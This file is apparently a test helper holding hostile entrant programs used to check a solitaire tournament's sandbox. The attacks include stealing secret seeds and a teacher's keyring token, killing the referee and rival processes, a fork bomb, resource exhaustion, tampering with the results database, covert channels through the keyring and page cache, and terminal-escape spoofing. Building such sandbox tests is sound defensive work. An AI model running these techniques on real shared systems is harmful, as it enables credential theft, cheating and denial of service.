"""Attacking entrants for tests/test_tournament.py: each a real entrant file's source (plain strings: this module
imports nothing of the kit, so the same attackers can be run against any version of the tournament).

Each plays the greedy player's moves when its trick finds nothing, and prints what its trick found (to its log).
"""

GREEDY_BASE = '''
import os, sys, time
from solitaire.players import GreedyStrategy
_greedy = GreedyStrategy()
'''

# --- it reads the secret seeds from the results file, found through the working directory and /proc ----------
SEED_THIEF = GREEDY_BASE + '''
import glob, sqlite3
from solitaire.solver import solve
from solitaire.state import deal, observe

def results_files():
    paths = set(glob.glob("*.sqlite")) | set(glob.glob("**/*.sqlite", recursive=True))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):  # the files other processes hold open
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.endswith(".sqlite"):
                    paths.add(target)
        except OSError:
            pass
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            paths |= {w.decode() for w in words if w.endswith(b".sqlite")}
        except OSError:
            pass
    return paths

def stolen_seeds():
    seeds = set()
    for path in results_files():
        try:
            with open(path, "rb") as f:
                if f.read(16) != b"SQLite format 3\\x00":
                    continue
            db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            seeds |= {int(s) for (s,) in db.execute("SELECT seed FROM deals")}
        except Exception:
            continue
    return seeds

class Thief:
    name = "thief"

    def __init__(self):
        self.plan = []

    def choose(self, obs, moves):
        if self.plan and self.plan[0] in moves:
            return self.plan.pop(0)
        if obs.stock_size == len(deal(obs.variant, 0).stock) and not obs.waste:
            seeds = stolen_seeds()
            print(f"seeds found: {len(seeds)}", flush=True)
            for seed in seeds:
                p = deal(obs.variant, seed)
                if observe(p) == obs:
                    result = solve(p, max_nodes=50_000)
                    if result.status == "won" and result.moves[0] in moves:
                        self.plan = list(result.moves[1:])
                        return result.moves[0]
        return _greedy.choose(obs, moves)

strategy = Thief()
'''

# --- it reads another entrant's file, the teacher's files and the environment, and prints them --------------
SNOOP = GREEDY_BASE + '''
import glob
_done = []

def choose(obs, moves):
    if not _done:
        _done.append(1)
        for path in sorted(glob.glob({folder!r} + "/*.py")) + [{secret!r}]:
            try:
                print(path, open(path).read(), flush=True)
            except OSError as e:
                print("cannot read", path, type(e).__name__, flush=True)
        print("environment:", dict(os.environ), flush=True)
        try:
            print("home:", os.listdir(os.path.expanduser("~root")), flush=True)
        except OSError as e:
            print("cannot list the home", type(e).__name__, flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it kills its rivals: every other process started by its own parent, the referee ------------------------
KILLER = GREEDY_BASE + '''
import signal

def choose(obs, moves):
    me, parent = os.getpid(), os.getppid()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
            if int(pid) != me and int(fields[1]) == parent:
                os.kill(int(pid), signal.SIGKILL)
                print("killed", pid, flush=True)
        except (OSError, ValueError):
            pass
    return _greedy.choose(obs, moves)
'''

# --- it stops, then kills, the referee (its parent) ----------------------------------------------------------
STOPPER = GREEDY_BASE + '''
import signal
_moves = []

def choose(obs, moves):
    _moves.append(1)
    for sig in (signal.SIGSTOP,) if len(_moves) < 5 else (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(os.getppid(), sig)
        except OSError as e:
            print("cannot signal", os.getppid(), type(e).__name__, flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it thinks in a child process: the child spins, the entrant itself only waits ---------------------------
CHILD_THINKER = GREEDY_BASE + '''
_thought = set()

def choose(obs, moves):
    if obs.stock_size < 20 and obs.recycles not in _thought:
        _thought.add(obs.recycles)
        pid = os.fork()
        if pid == 0:
            end = time.process_time() + {seconds}
            while time.process_time() < end:
                pass
            os._exit(0)
        os.waitpid(pid, 0)
    return _greedy.choose(obs, moves)
'''

# --- a fork bomb (kept gentle: its processes sleep instead of spinning, and stop at 300) --------------------
FORK_BOMB = GREEDY_BASE + '''
_bombed = []

def choose(obs, moves):
    if not _bombed:
        _bombed.append(1)
        made = 0
        try:
            for _ in range(300):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                made += 1
        finally:
            print("processes started:", made, flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it sleeps on every move instead of spinning: no CPU used, much time taken ------------------------------
SLEEPER = GREEDY_BASE + '''
def choose(obs, moves):
    time.sleep({seconds})
    return _greedy.choose(obs, moves)
'''

# --- it thinks in threads that release the GIL (hashing in C), so they run on every core at once ----------
THREADS = GREEDY_BASE + '''
import hashlib, threading
_thought = set()

def think(end):
    while time.process_time() < end:  # the CPU of all its threads together
        hashlib.pbkdf2_hmac("sha256", b"x", b"y", 20_000)

def choose(obs, moves):
    if obs.stock_size < 20 and obs.recycles not in _thought:
        _thought.add(obs.recycles)
        end = time.process_time() + {seconds}
        threads = [threading.Thread(target=think, args=(end,)) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    return _greedy.choose(obs, moves)
'''

# --- memory in children: each child stays under the per-process limit, together they go far over -------------
CHILD_MEMORY = GREEDY_BASE + '''
_done = []

def choose(obs, moves):
    if not _done:
        _done.append(1)
        pids = []
        for _ in range({children}):
            pid = os.fork()
            if pid == 0:
                block = bytearray({mb} << 20)
                block[::4096] = b"x" * len(block[::4096])  # every page touched: really resident
                time.sleep(2)
                os._exit(0)
            pids.append(pid)
        codes = [os.waitpid(pid, 0)[1] for pid in pids]
        print("children's exit statuses:", codes, flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it fills its pipe from the referee (reopened for writing through /proc) and stops reading --------------
PIPE_FILLER = GREEDY_BASE + '''
_moves = []

def choose(obs, moves):
    _moves.append(1)
    if len(_moves) == 3:
        w = os.open(f"/proc/self/fd/{sys.argv[1]}", os.O_WRONLY | os.O_NONBLOCK)  # its pipe from the referee
        try:
            while True:
                os.write(w, b"\\xff" * 4096)
        except BlockingIOError:
            pass
        os.write(int(sys.argv[2]), f"m {moves.index(_greedy.choose(obs, moves))}\\n".encode())  # answers itself
        time.sleep(600)  # and never reads again
    return _greedy.choose(obs, moves)
'''

# --- it closes its answer pipe, duplicates it into a child, and floods it without a newline ------------------
PIPE_FLOOD = GREEDY_BASE + '''
_moves = []

def choose(obs, moves):
    _moves.append(1)
    if len(_moves) == 3:
        fd_out = int(sys.argv[2])
        copy = os.dup(fd_out)
        os.close(fd_out)
        if os.fork() == 0:
            while True:
                os.write(copy, b"m" * 65536)  # never a newline
        os.write(1, b"y" * 10_000_000)
        time.sleep(30)
    return _greedy.choose(obs, moves)
'''

# --- it opens a network connection to a server on this machine ---------------------------------------------
NETWORK = GREEDY_BASE + '''
import socket
_done = []

def choose(obs, moves):
    if not _done:
        _done.append(1)
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                s.sendall(b"hello from the entrant")
                print("connected", flush=True)
        except OSError as e:
            print("cannot connect:", type(e).__name__, e, flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it tampers with the results file and its folder: changes the seeds, drops the rivals' games -------------
TAMPER = SEED_THIEF.replace("strategy = Thief()", '''
_done = []

def choose(obs, moves):
    if not _done:
        _done.append(1)
        for path in results_files():
            try:
                with open(path, "rb") as f:
                    if f.read(16) != b"SQLite format 3\\x00":
                        continue
                db = sqlite3.connect(path)
                db.execute("UPDATE deals SET seed = '1'")
                db.execute("DELETE FROM games WHERE entrant != 'tamper'")
                db.commit()
                real = os.path.realpath(path)
                open(os.path.join(os.path.dirname(real), "tampered.txt"), "w").write("was here")
                print("tampered with", real, flush=True)
            except Exception as e:
                print("cannot tamper with", path, type(e).__name__, flush=True)
    return _greedy.choose(obs, moves)
''')


# === issue 54: channels between entrants and to the host ==================================================
# --- two colluding entrants: a scout plays every deal first and leaves what it saw; a cheat reads it back -----
# colluder(role, channel) is the source of one of them; the channels are the kernel's user keyring, the page cache
# of a large library file, and (to show the cheat wins once the message gets through) a folder of files.
COLLUDE_BASE = GREEDY_BASE + '''
import hashlib, random
from collections import Counter
from solitaire.cards import Card
from solitaire.knowledge import Memory
from solitaire.moves import apply
from solitaire.solver import solve
from solitaire.state import Position, observe

def deal_key(obs):
    """The deal, named by what its first observation shows (the face-up cards)."""
    return hashlib.sha256(repr([[int(c) for c in col] for col in obs.columns]).encode()).hexdigest()[:16]

SLOTS = [("s", i) for i in range(24)] + [("c", c, j) for c in range(7) for j in range(c)]  # the 45 hidden places

class Scout:
    """Plays greedy and leaves, for each deal, every card it saw turned up and where it lay in the deal."""
    name = "scout"

    def __init__(self):
        self.key, self.last, self.record = None, None, {{}}

    def choose(self, obs, moves):
        if self.key is None:
            self.key = deal_key(obs)
        elif self.last is not None and self.learn(self.last, obs):
            save(self.key, self.record)
        self.last = obs
        return _greedy.choose(obs, moves)

    def learn(self, prev, obs):
        before = len(self.record)
        drawn = prev.stock_size - obs.stock_size
        if obs.recycles == prev.recycles == 0 and drawn > 0:
            for j in range(drawn):  # the first card drawn was the stock's top (its last slot)
                self.record[("s", prev.stock_size - 1 - j)] = int(obs.waste[len(obs.waste) - 1 - j])
        for c, (h, g) in enumerate(zip(obs.hidden, prev.hidden)):
            if h < g and obs.columns[c]:
                self.record[("c", c, h)] = int(obs.columns[c][0])
        return len(self.record) > before

class Cheat:
    """Fills the face-down cards and the stock with what the scout left, solves, and follows the solver."""
    name = "cheat"

    def __init__(self):
        self.memory, self.known, self.plan, self.expect, self.rng = Memory(), None, [], None, random.Random(1)

    def choose(self, obs, moves):
        k = self.memory.update(obs)
        if self.known is None:
            self.known = {{slot: Card(code) for slot, code in load(deal_key(obs)).items()}}
            print(f"cards found for this deal: {{len(self.known)}}", flush=True)
        if self.plan and obs == self.expect and self.plan[0] in moves:
            return self.follow(self.plan.pop(0))
        if len(self.known) >= 30:
            result = solve(self.layout(k), max_nodes=20_000)
            if result.status == "won" and result.moves and result.moves[0] in moves:
                self.plan = list(result.moves[1:])
                return self.follow(result.moves[0])
        self.plan = []
        return _greedy.choose(obs, moves)

    def follow(self, move):
        self.assumed = apply(self.assumed, move)
        self.expect = observe(self.assumed)
        return move

    def layout(self, k):
        obs, pool = k.obs, Counter(k.unseen)

        def take(slot):
            card = self.known.get(slot)
            if card is not None and pool[card] > 0:
                pool[card] -= 1
                return card
            return None
        stock = [c if c is not None or obs.recycles else take(("s", i)) for i, c in enumerate(k.stock)]
        down = [[take(("c", col, j)) for j in range(h)] for col, h in enumerate(obs.hidden)]
        rest = list(pool.elements())
        self.rng.shuffle(rest)
        fill = iter(rest)
        stock = tuple(c if c is not None else next(fill) for c in stock)
        columns = tuple(tuple(c if c is not None else next(fill) for c in d) + face for d, face in zip(down, obs.columns))
        self.assumed = Position(obs.variant, stock, obs.waste, obs.foundations, columns, obs.hidden, obs.recycles)
        return self.assumed

strategy = {role}()
'''

KEYRING_CHANNEL = '''
import ast, ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = {{"x86_64": (248, 250), "aarch64": (217, 219)}}[platform.machine()]
USER_KEYRING, SEARCH, READ = -4, 10, 11

def save(key, record):
    data = repr(sorted(record.items())).encode()
    if _libc.syscall(ADD_KEY, b"user", f"solitaire-{{key}}".encode(), data, ctypes.c_long(len(data)),
                     ctypes.c_long(USER_KEYRING)) < 0:
        print("add_key refused:", ctypes.get_errno(), flush=True)

def load(key):
    found = _libc.syscall(KEYCTL, ctypes.c_long(SEARCH), ctypes.c_long(USER_KEYRING), b"user",
                          f"solitaire-{{key}}".encode(), ctypes.c_long(0))
    if found < 0:
        print("keyctl search refused or found nothing:", ctypes.get_errno(), flush=True)
        return {{}}
    buf = ctypes.create_string_buffer(1 << 16)
    n = _libc.syscall(KEYCTL, ctypes.c_long(READ), ctypes.c_long(found), buf, ctypes.c_long(1 << 16))
    return dict(ast.literal_eval(buf.raw[:n].decode())) if n > 0 else {{}}
'''

# the page cache of the largest library file both can read: a page cached is a 1, a page dropped a 0
PAGE_CACHE_CHANNEL = '''
import os
PAGE, BITS = 4096, 1 + 32 + 45 * 6  # a record: its "written" page, the deal's key (32 bits), 45 cards of 6 bits
SLOTS_IN_FILE = 32

def _big_file():
    for folder in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib/chromium", "/usr/bin"):
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        found = [(-e.stat().st_size, e.path) for e in entries if e.is_file() and e.stat().st_size > (BITS * SLOTS_IN_FILE + 8) * PAGE]
        if found:
            return min(found)[1]  # the largest of the first folder that has one
    return None

def _cached(fd, page):
    try:
        return os.preadv(fd, [bytearray(1)], page * PAGE, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False

def _open():
    path = _big_file()
    if path is None:
        print("no large file to write in", flush=True)
        return None
    fd = os.open(path, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # a read brings in its own page only
    return fd

def _bits(key, record):
    out = [1] + [(int(key[:8], 16) >> i) & 1 for i in range(32)]
    for slot in SLOTS:
        out += [(record.get(slot, 0) >> i) & 1 for i in range(6)]
    return out

def save(key, record):
    try:
        fd = _open()
        if fd is None:
            return
        first = (int(key[:8], 16) % SLOTS_IN_FILE) * BITS
        os.posix_fadvise(fd, first * PAGE, BITS * PAGE, os.POSIX_FADV_DONTNEED)  # every bit 0
        for i, bit in enumerate(_bits(key, record)):
            if bit:
                os.pread(fd, 1, (first + i) * PAGE)
        os.close(fd)
    except OSError as e:
        print("cannot write in the page cache:", type(e).__name__, e, flush=True)

def load(key):
    try:
        fd = _open()
        if fd is None:
            return {{}}
        first = (int(key[:8], 16) % SLOTS_IN_FILE) * BITS
        bits = [_cached(fd, first + i) for i in range(BITS)]
        os.close(fd)
    except OSError as e:
        print("cannot read the page cache:", type(e).__name__, e, flush=True)
        return {{}}
    if not bits[0] or sum(b << i for i, b in enumerate(bits[1:33])) != int(key[:8], 16):
        return {{}}
    cards = [sum(b << i for i, b in enumerate(bits[33 + 6 * n:39 + 6 * n])) for n in range(45)]
    return {{slot: code for slot, code in zip(SLOTS, cards) if code}}
'''

# a folder of files: the message gets through for sure (the in-process proof that the cheat wins with it)
FOLDER_CHANNEL = '''
import ast
def save(key, record):
    with open(os.path.join({folder!r}, key), "w") as f:
        f.write(repr(sorted(record.items())))

def load(key):
    try:
        with open(os.path.join({folder!r}, key)) as f:
            return dict(ast.literal_eval(f.read()))
    except OSError:
        return {{}}
'''


def colluder(role: str, channel: str, **where) -> str:
    """The source of a "Scout" or a "Cheat" using the channel "keyring", "page_cache" or "folder" (folder=...)."""
    text = {"keyring": KEYRING_CHANNEL, "page_cache": PAGE_CACHE_CHANNEL, "folder": FOLDER_CHANNEL}[channel]
    return (COLLUDE_BASE.replace("strategy = {role}()\n", "") + text.format(**where) + f"\nstrategy = {role}()\n"
            ).replace("{{", "{").replace("}}", "}")

# --- it reads the keys of the session keyring it was started with (a teacher's token, as pam_keyinit sets up) --
TOKEN_READER = GREEDY_BASE + '''
import ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
KEYCTL = {"x86_64": 250, "aarch64": 219}[platform.machine()]
_done = []

def choose(obs, moves):
    if not _done:
        _done.append(1)
        for ring, name in ((-3, "session"), (-4, "user"), (-5, "user session")):
            found = _libc.syscall(KEYCTL, ctypes.c_long(10), ctypes.c_long(ring), b"user", b"solitaire-teacher-token",
                                  ctypes.c_long(0))  # KEYCTL_SEARCH
            if found < 0:
                print(f"{name} keyring: nothing read (errno {ctypes.get_errno()})", flush=True)
                continue
            buf = ctypes.create_string_buffer(4096)
            n = _libc.syscall(KEYCTL, ctypes.c_long(11), ctypes.c_long(found), buf, ctypes.c_long(4096))  # KEYCTL_READ
            print(f"{name} keyring: read", buf.raw[:max(n, 0)].decode(errors="replace"), flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it loads slowly, is slow on its first moves, then answers what is not a move: each restart loads again -----
SLOW_LOADER = '''
import time
time.sleep({load})
from solitaire.players import GreedyStrategy
_greedy = GreedyStrategy()
_moves = []

def choose(obs, moves):
    _moves.append(1)
    if len(_moves) <= {slow_moves}:
        time.sleep({move})
    if len(_moves) == {slow_moves} + 1:
        return 42  # not a move: it loses the game and is started again
    return _greedy.choose(obs, moves)
'''

# --- its answer is a line of terminal escapes: clear the screen, then draw a leaderboard it wins -------------
ESCAPES = GREEDY_BASE + '''
FAKE = ("\\x1b[2J\\x1b[H" "rank  entrant   games  wins  win rate\\r\\n   1  escapes      2     2    100.0%\\r\\n"
        "\\r\\nfailures: none\\x1b[8m")

def choose(obs, moves):
    os.write(int(sys.argv[2]), ("f crash " + FAKE + "\\n").encode())  # straight into its pipe to the referee
    time.sleep(30)
'''

# --- memory the process does not hold: files in /tmp (and wherever else it may write), queued socket buffers ---
FILES_MEMORY = GREEDY_BASE + '''
_stored = {{"/tmp": 0, "/dev/shm": 0, "/": 0}}  # megabytes written in each folder, 40 more a move (CPU stays low)
_stopped = set()

def choose(obs, moves):
    budget = 40
    for folder in _stored:
        while folder not in _stopped and budget and _stored[folder] < {mb}:
            try:
                with open(os.path.join(folder, f"block{{_stored[folder]}}"), "wb") as f:
                    f.write(b"x" * 1_000_000)  # a megabyte, under the limit on one file (output_bytes)
                _stored[folder] += 1
                budget -= 1
            except OSError as e:
                _stopped.add(folder)
                print(f"{{folder}}: stopped by {{type(e).__name__}}", flush=True)
        print(f"stored {{_stored[folder]}} MB in {{folder}}", flush=True)
    return _greedy.choose(obs, moves)
'''

SOCKET_MEMORY = GREEDY_BASE + '''
import socket
_keep, _queued, _stopped = [], [0], []

def choose(obs, moves):
    goal = min(_queued[0] + 40 * 10 ** 6, {mb} * 10 ** 6)  # 40 MB more a move (CPU stays low)
    try:
        while not _stopped and _queued[0] < goal:
            a, b = socket.socketpair()
            a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)  # as much as the kernel allows
            a.setblocking(False)
            try:
                while True:
                    _queued[0] += a.send(b"x" * 65536)
            except BlockingIOError:
                pass
            _keep.append((a, b))
    except OSError as e:
        if not _stopped:
            print("sockets stopped by", type(e).__name__, e, flush=True)
        _stopped.append(1)
    print(f"queued {{_queued[0] // 10 ** 6}} MB in sockets", flush=True)
    return _greedy.choose(obs, moves)
'''

# --- what it can learn of the host: capabilities, user, bubblewrap's command line, every visible process -------
INSPECTOR = GREEDY_BASE + '''
_done = []

def choose(obs, moves):
    if not _done:
        _done.append(1)
        status = open("/proc/self/status").read()
        print("\\n".join(line for line in status.splitlines() if line.startswith(("Cap", "Uid", "Seccomp:"))), flush=True)
        for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
            for what in ("cmdline", "environ"):
                try:
                    text = open(f"/proc/{pid}/{what}", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
                    print(f"/proc/{pid}/{what}: {text}", flush=True)
                except OSError as e:
                    print(f"/proc/{pid}/{what}: {type(e).__name__}", flush=True)
    return _greedy.choose(obs, moves)
'''

# --- it tries every kernel facility two sandboxes could share, or that holds memory outside a process ---------
PROBE = GREEDY_BASE + '''
import ctypes, mmap, platform, signal
_libc = ctypes.CDLL(None, use_errno=True)
N = {"x86_64": dict(keyctl=250, add_key=248, mincore=27, io_uring_setup=425, memfd_create=319, shmget=29,
                    msgget=68, semget=64, mq_open=240, inotify_init1=294, timer_create=222, unshare=272,
                    userfaultfd=323, cachestat=451),
     "aarch64": dict(keyctl=219, add_key=217, mincore=232, io_uring_setup=425, memfd_create=279, shmget=194,
                     msgget=186, semget=190, mq_open=180, inotify_init1=26, timer_create=107, unshare=97,
                     userfaultfd=282, cachestat=451)}[platform.machine()]
L = ctypes.c_long
_done = []

def call(name, *args):
    return _libc.syscall(L(N[name]), *[L(a) if isinstance(a, int) else a for a in args]) >= 0

def tries():
    page = mmap.mmap(-1, 4096)
    vec = ctypes.create_string_buffer(8)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    fd = os.open(sys.executable, os.O_RDONLY)
    timer, params = ctypes.create_string_buffer(8), ctypes.create_string_buffer(120)  # kept: the kernel writes there
    cache_range, cache_stat = ctypes.create_string_buffer(16), ctypes.create_string_buffer(40)
    yield "keyctl", call("keyctl", 0, -4, 0)  # KEYCTL_GET_KEYRING_ID of the user keyring
    yield "add_key", call("add_key", b"user", b"probe", b"x", 1, -4)
    yield "mincore", call("mincore", address, 4096, ctypes.addressof(vec))
    yield "cachestat", call("cachestat", fd, ctypes.addressof(cache_range), ctypes.addressof(cache_stat), 0)
    yield "io_uring_setup", call("io_uring_setup", 4, ctypes.addressof(params))
    yield "memfd_create", call("memfd_create", b"probe", 0)
    yield "shmget", call("shmget", 0, 1 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    yield "msgget", call("msgget", 0, 0o1600)
    yield "semget", call("semget", 0, 1, 0o1600)
    yield "mq_open", call("mq_open", b"probe", os.O_CREAT | os.O_RDWR, 0o600, 0)
    yield "inotify_init1", call("inotify_init1", 0)
    yield "timer_create", call("timer_create", 1, 0, ctypes.addressof(timer))  # CLOCK_MONOTONIC
    yield "unshare", call("unshare", 0x10000000)  # CLONE_NEWUSER
    yield "userfaultfd", call("userfaultfd", 0)
    for name, how in (("socketpair", lambda: socket_pair()), ("posix_fadvise", lambda: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)),
                      ("preadv2_nowait", lambda: os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)),
                      ("flock", lambda: __import__("fcntl").flock(fd, 1))):
        try:
            how()
            yield name, True
        except OSError:
            yield name, False

def socket_pair():
    import socket
    socket.socketpair()

def choose(obs, moves):
    if not _done:
        _done.append(1)
        for name, works in tries():
            print(f"{name}: {'open' if works else 'refused'}", flush=True)
    return _greedy.choose(obs, moves)
'''


# === running issue 54's attackers against any version of the kit: python tests/attackers.py ===================
COLLUDING_DEALS = [6680835888273693596, 16267210687112955479, 7018428548761650224]  # greedy loses each


def _run(folder, files, deals, seeds=None, **limits):
    """A tournament of the files and the kit's greedy player, with the kit on the import path now (any version):
    its rows and each entrant's log."""
    import os
    import shutil
    from solitaire import tournament
    os.makedirs(os.path.join(folder, "class"))
    os.makedirs(os.path.join(folder, "logs"))
    for name, text in files.items():
        with open(os.path.join(folder, "class", f"{name}.py"), "w", encoding="utf-8") as f:
            f.write(text)
    shutil.copy(os.path.join(os.path.dirname(tournament.__file__), "..", "entrants", "greedy_player.py"),
                os.path.join(folder, "class"))
    results = tournament.run(os.path.join(folder, "class"), deals=deals, seeds={"klondike": seeds} if seeds else None,
                             limits=tournament.Limits(**limits), logs=os.path.join(folder, "logs"), quiet=True)
    logs = {}
    for name in files:
        path = os.path.join(folder, "logs", f"{name}.log")
        logs[name] = open(path, errors="replace").read() if os.path.exists(path) else ""
    return results.rows, logs


def _wins(rows, name):
    return sum(r["outcome"] == "won" for r in rows if r["entrant"] == name)


def main() -> None:
    """Run each attacker of issue 54 against the kit on the import path, and print what it achieved."""
    import os
    import re
    import subprocess
    import sys
    import tempfile
    import time
    from solitaire import tournament
    print(tournament.detect().line, f"(uid {os.getuid()})")
    base = tempfile.mkdtemp(prefix="attackers-")
    slow = dict(move_seconds=2.0, max_moves=500, game_seconds=30)
    for channel in ("keyring", "page_cache"):
        rows, logs = _run(os.path.join(base, channel), {"a_scout": colluder("Scout", channel),
                          "b_cheat": colluder("Cheat", channel)}, 3, COLLUDING_DEALS, **slow)
        found = re.findall(r"cards found for this deal: (\d+)", logs["b_cheat"])
        print(f"{channel} collusion: cheat won {_wins(rows, 'b_cheat')}, greedy {_wins(rows, 'greedy_player')} of 3; "
              f"cards the cheat found a deal: {', '.join(found)}")
    token = os.path.join(base, "token")
    os.makedirs(os.path.join(token, "class"))
    with open(os.path.join(token, "class", "token_reader.py"), "w") as f:
        f.write(TOKEN_READER)
    keep = (f"import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"add_key, keyctl = {{'x86_64': (248, 250), 'aarch64': (217, 219)}}[platform.machine()]\n"
            f"libc.syscall(keyctl, ctypes.c_long(1), b'teacher-login')\n"
            f"libc.syscall(add_key, b'user', b'solitaire-teacher-token', b'TOKEN-SECRET-54', ctypes.c_long(15), "
            f"ctypes.c_long(-3))\nfrom solitaire import tournament\n"
            f"tournament.run({os.path.join(token, 'class')!r}, deals=1, logs={token!r}, quiet=True)\n")
    subprocess.run([sys.executable, "-c", keep], check=True)
    log = open(os.path.join(token, "token_reader.log")).read()
    print("session keyring token:", "READ by the entrant" if "TOKEN-SECRET-54" in log else "not read", "|",
          " | ".join(log.split("\n")[:3]))
    start = time.monotonic()
    rows, _ = _run(os.path.join(base, "slow"), {"slow_loader": SLOW_LOADER.format(load=1.2, slow_moves=2, move=0.6)}, 20,
                   move_seconds=0.3, max_moves=500, load_seconds=2, game_seconds=1.5)
    kinds = sorted({r["reason"].split(":")[0] for r in rows if r["entrant"] == "slow_loader"})
    print(f"slow loader: 20 deals took {time.monotonic() - start:.0f} s; its failures: {kinds}")
    folder = os.path.join(base, "escapes")
    _run(folder, {"escapes": ESCAPES}, 2)
    out = subprocess.run([sys.executable, "-m", "solitaire", "tournament", os.path.join(folder, "class"), "--deals", "2",
                          "--table", os.path.join(folder, "games.csv")], capture_output=True, text=True)
    table = open(os.path.join(folder, "games.csv"), encoding="utf-8").read()
    print(f"escapes: ESC bytes on the screen: {out.stdout.count(chr(27))}, in the games table: {table.count(chr(27))}")
    for kind, source in (("files", FILES_MEMORY), ("sockets", SOCKET_MEMORY)):
        rows, logs = _run(os.path.join(base, kind), {"hoarder": source.format(mb=600)}, 1, memory_mb=200)
        held = sorted({place: f"{n} MB in {place}" for n, place in re.findall(r"(?:stored|queued) (\d+) MB in (\S+)", logs["hoarder"])}.values())
        print(f"memory in {kind} (limit 200 MB): {held}; its game: {[r['reason'] or r['outcome'] for r in rows if r['entrant'] == 'hoarder']}")
    store = tournament.ResultsFile(os.path.join(base, "class.sqlite"))
    store.seeds("klondike", __import__("solitaire").KLONDIKE, 3)
    modes = {end: oct(os.stat(os.path.join(base, "class.sqlite" + end)).st_mode & 0o777) for end in ("", "-wal", "-shm")}
    store.close()
    print("results file modes while in use:", modes)
    rows, logs = _run(os.path.join(base, "inspect"), {"inspector": INSPECTOR, "inspector2": INSPECTOR}, 1)
    for name in ("inspector", "inspector2"):
        caps = re.search(r"CapBnd:\s+(\w+)", logs[name]).group(1)
        uid = re.search(r"Uid:\s+(\d+)", logs[name]).group(1)
        one = re.search(r"/proc/1/cmdline: ([^\n]*)", logs[name]).group(1)
        print(f"{name}: CapBnd {caps}, uid {uid}, /proc/1/cmdline: {one[:150]}...")
    rows, logs = _run(os.path.join(base, "probe"), {"probe": PROBE}, 1)
    said = re.findall(r"^(\w+): (open|refused)$", logs["probe"], re.M)
    print("facilities open to an entrant:", [name for name, how in said if how == "open"] or "none")


if __name__ == "__main__":
    main()
